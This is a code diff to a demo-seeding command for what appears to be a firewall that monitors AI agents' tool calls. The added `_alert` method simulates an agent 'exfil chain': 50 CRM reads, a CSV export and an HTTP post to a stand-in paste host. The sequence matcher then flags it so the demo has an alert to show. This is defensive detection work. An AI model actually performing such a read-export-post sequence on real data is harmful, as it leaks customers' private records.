@@ -88,6 +88,7 @@ class Command(BaseCommand):
         # Outside the transaction above: a proof claims its job and writes its result in
         # transactions of its own, as it does on a worker.
         self._proof_job(organisation)
+        self._alert(organisation)
         self.stdout.write(f"Demo organisation `{organisation.name}` is ready. Sign in with:")
         for role, username in people:
             self.stdout.write(f"  {role:9} {username:16} password: {password}")
@@ -172,6 +173,34 @@ class Command(BaseCommand):
             origins=origins,
             context={"order_paid": True},
         )
+
+    def _alert(self, organisation) -> None:  # noqa: ANN001
+        """The demo policy's "exfil chain" completed once, so the feed and the Alerts page have an
+        alert to show: 50 CRM reads, an export and an egress call decided by the firewall as
+        `POST /v1/firewall/evaluate` decides them, then matched by the sequence matcher the
+        worker runs (which also holds that session, as the rule says). Outside the transaction
+        above, as the matcher runs on a worker."""
+        from console.access import Actor
+        from console.models import SHARDS
+        from firewall import matching
+        from firewall import services as firewall_services
+
+        if Event.objects.filter(organisation=organisation, is_alert=True).exists():
+            return
+        if firewall_services.active_policy(organisation=organisation) is None:
+            return  # the organisation keeps a policy of its own, without the demo's rule
+        actor = Actor(organisation=organisation, role="admin", label="seed_demo")
+        session = {"agent": "desk", "session": "demo-exfil-1"}
+        calls = [{"tool": "crm.read", "arguments": {"customer": f"c-{i}"}} for i in range(50)]
+        calls.append({"tool": "crm.export", "arguments": {"format": "csv"}})
+        calls.append(
+            {"tool": "http.post", "stage": "egress", "destination": "https://paste.example.net/u"}
+        )
+        for call in calls:
+            firewall_services.firewall_evaluate(actor=actor, call={**call, **session})
+        for shard in range(SHARDS):
+            while matching.drain_shard(shard):
+                pass
 
     def _proof_job(self, organisation) -> None:  # noqa: ANN001
         """The shop's agents proved once, as an editor submits them from the Proofs page: the
